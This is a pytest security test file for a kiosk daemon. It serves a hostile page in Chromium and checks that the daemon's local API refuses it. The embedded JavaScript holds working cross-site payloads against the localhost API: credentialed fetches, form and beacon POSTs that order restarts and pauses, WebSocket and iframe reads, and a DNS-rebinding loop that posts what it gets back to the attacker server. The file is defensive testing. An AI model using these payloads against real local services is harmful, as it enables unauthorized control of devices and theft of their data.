"""A page that means harm, in the kiosk's own Chromium: it asks kioskd in every way a page has, and gets what is meant for pages."""

import asyncio
import contextlib
import json
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from aiohttp import web
from aiohttp.test_utils import TestServer

from kioskd.demo.kiosk import Kiosk, free_port
from tests.aio import asynctest
from tests.faults.fronts import NAME, Names
from tests.faults.stage import SMALL, START_S
from tests.faults.visitor import Visitor, admitting

pytestmark = pytest.mark.chromium

#: Each ends with what came of it: "no", or whatever it got.
ATTACKS = """
const api = "http://127.0.0.1:PORT", socket = "ws://127.0.0.1:PORT", json = {"Content-Type": "application/json"}
const post = (path, how) => fetch(api + path, {method: "POST", credentials: "include", ...how}).then(answer => answer.type + answer.status)
const element = (kind, set) => new Promise((good, bad) => {
  const it = document.createElement(kind)
  it.onload = () => good("loaded")
  it.onerror = bad
  Object.assign(it, set)
  document.body.append(it)
})
const listens = path => new Promise((good, bad) => {
  const it = new WebSocket(socket + path)
  it.onopen = () => good("open")
  it.onerror = bad
})
const tries = {
  "read the version": () => fetch(api + "/api/deployment_version").then(answer => answer.json()).then(() => "read"),
  "hear broadcasts": () => listens("/ws"),
  "read the status": () => fetch(api + "/api/status", {credentials: "include"}).then(answer => answer.text()),
  "ask blindly": () => fetch(api + "/api/status", {mode: "no-cors", credentials: "include"}).then(answer => answer.type),
  "read the incidents": () => fetch(api + "/api/incidents", {credentials: "include"}).then(answer => answer.text()),
  "order": () => post("/api/restart", {body: "{}", headers: json}),
  "order as a form does": () => post("/api/restart", {mode: "no-cors", body: "{}"}),
  "order with an empty form": () => post("/api/pause", {mode: "no-cors"}),
  "order as a beacon": async () => navigator.sendBeacon(api + "/api/reload", new Blob(["{}"], {type: "text/plain"})) && "no",
  "follow live": () => listens("/api/events"),
  "follow as events": () => new Promise((good, bad) => Object.assign(new EventSource(api + "/api/events"), {onopen: good, onerror: bad})),
  "show the screenshot": () => element("img", {src: api + "/api/screenshot"}),
  "run the status as a script": () => element("script", {src: api + "/api/status"}),
  "take it for a style": () => element("link", {rel: "stylesheet", href: api + "/metrics"}),
  "look into a frame": async () => {
    const frame = document.createElement("iframe")
    const loaded = new Promise(good => { frame.onload = good })
    frame.src = api + "/"
    document.body.append(frame)
    await loaded
    return frame.contentDocument ? frame.contentDocument.body.innerText : "no"
  },
  "post a form into a frame": async () => {
    const form = document.createElement("form"), frame = document.createElement("iframe")
    frame.name = "there"
    Object.assign(form, {method: "post", action: api + "/api/restart", target: "there"})
    document.body.append(frame, form)
    const loaded = new Promise(good => { frame.onload = good })
    form.submit()
    await loaded
    return "no"
  },
}
const within = (seconds, what) => Promise.race([what, new Promise((_, bad) => setTimeout(bad, 1000 * seconds))])
const all = async () => {
  const came = {}
  for (const [name, one] of Object.entries(tries))
    try { came[name] = await within(5, one()) } catch { came[name] = "no" }
  return fetch("/came?from=" + encodeURIComponent(location.origin), {method: "POST", body: JSON.stringify(came)})
}
"""
#: The page of a name that leads to its own server first and then, by the name's second address, to kioskd (DNS rebinding).
REBOUND = """<script>
const rebound = async () => {
  for (;;) {
    const answer = await fetch("/api/status").catch(() => null)
    const text = await answer?.text()
    const body = JSON.stringify({[answer?.status]: text})
    if (text && text !== "mine") return fetch("HOME/came?from=rebound", {method: "POST", mode: "no-cors", body})
    await new Promise(soon => setTimeout(soon, 50))
  }
}
rebound()
</script>"""
FOR_HOME = {"read the version": "read", "hear broadcasts": "open"}


@dataclass
class Attacker:
    """Serves the page that is home, one of another origin in a frame of it, and one under a name that soon means this machine."""

    came: dict[str, dict[str, Any]] = field(default_factory=dict)
    port: int = 0
    api: int = 0
    frame: str = ""
    _news: asyncio.Event = field(default_factory=asyncio.Event)

    async def serve(self, request: web.Request) -> web.Response:
        """Everything there is."""
        if request.method == "POST":
            self.came[request.query["from"]] = json.loads(await request.text())
            self._news.set()
            return web.Response()
        frame = f'<iframe src="{self.frame}"></iframe>' if request.path == "/" else ""
        body = f"<!doctype html><body>{frame}<script>{ATTACKS.replace('PORT', str(self.api))}; all()</script>"
        return web.Response(text=body, content_type="text/html")

    async def gets(self, origin: str) -> dict[str, Any]:
        """Wait for what came of the attacks from there; return what was more than nothing."""
        async with asyncio.timeout(START_S):
            while origin not in self.came:
                self._news.clear()
                await self._news.wait()
        return {name: got for name, got in self.came[origin].items() if got != "no"}


@contextlib.asynccontextmanager
async def attacker() -> AsyncIterator[Attacker]:
    """One that is served."""
    it = Attacker()
    app = web.Application()
    app.router.add_route("*", "/{path:.*}", it.serve)
    async with TestServer(app) as server:
        it.port, it.frame = server.port, f"http://localhost:{server.port}/evil"
        yield it


async def paired(kiosk: Kiosk) -> dict[str, Any]:
    """The cookie of a browser that was paired by its link, as DevTools takes it; it is worth something."""
    async with aiohttp.ClientSession(connector=aiohttp.UnixConnector(kiosk.control)) as session:
        async with session.post("http://kioskd/api/pair", json={}) as response:
            path = (await response.json())["path"]
    door = f"http://127.0.0.1:{kiosk.port}"
    async with aiohttp.ClientSession() as session:
        async with session.get(door + path, allow_redirects=False) as response:
            ((name, cookie),) = response.cookies.items()
        async with session.get(door + "/api/incidents", headers={"Cookie": f"{name}={cookie.value}"}) as response:
            assert response.status == 200
    return {"name": name, "value": cookie.value, "domain": "127.0.0.1", "path": "/", "httpOnly": True, "sameSite": "Strict"}


@asynctest
async def test_a_page_gets_no_more_than_is_meant_for_pages_even_in_a_paired_browser(tmp_path: Path) -> None:
    async with attacker() as page:
        home, elsewhere = f"http://127.0.0.1:{page.port}", f"http://localhost:{page.port}"
        over = {"browser": {"command": admitting(tmp_path), "flags": list(SMALL)}, "health": {"websocket": {"url": "off"}}}
        kiosk = Kiosk(home + "/", tmp_path, **over)
        page.api = kiosk.port
        async with kiosk:
            known = await kiosk.shows(START_S, verdict="HEALTHY")
            done = kiosk.log().count("> ")
            assert done, "a step is logged so: the start"
            assert await page.gets(home) == FOR_HOME
            assert await page.gets(elsewhere) == {}
            page.came.clear()
            async with Visitor(kiosk.profile) as visitor:
                await visitor.has_cookie(await paired(kiosk))
                await visitor.reloads()
            assert await page.gets(home) == FOR_HOME
            assert await page.gets(elsewhere) == {}
            after = await kiosk.status()
            assert kiosk.log().count("> ") == done, "an order has been taken"
            assert after["verdict"] == "HEALTHY" and after["browser"]["pid"] == known["browser"]["pid"] and after["paused_until"] is None


@asynctest
async def test_a_name_that_is_given_this_machines_address_later_gets_nothing(tmp_path: Path) -> None:
    names, loaded = Names(tmp_path), asyncio.Event()

    async def mine(request: web.Request) -> web.Response:
        loaded.set()
        text = REBOUND.replace("HOME", home) if request.path == "/" else "mine"
        return web.Response(text=text, content_type="text/html", headers={"Connection": "close"})

    async with attacker() as page:
        home, port = f"http://127.0.0.1:{page.port}", free_port()
        page.api, page.frame = port, f"http://{NAME}:{port}/"
        app = web.Application()
        app.router.add_get("/{path:.*}", mine)
        runner = web.AppRunner(app)
        await runner.setup()
        site = web.TCPSite(runner, "127.0.0.2", port)
        await site.start()
        names.learn("127.0.0.2", "127.0.0.1")
        over = {"api": {"listen": f"127.0.0.1:{port}"}, "browser": {"flags": list(SMALL)}, "health": {"websocket": {"url": "off"}}}
        async with Kiosk(home + "/", tmp_path, names.variables, **over):
            await asyncio.wait_for(loaded.wait(), START_S)
            await runner.cleanup()
            ((status, text),) = (await page.gets("rebound")).items()
            assert status == "403" and "this name is not served here" in text
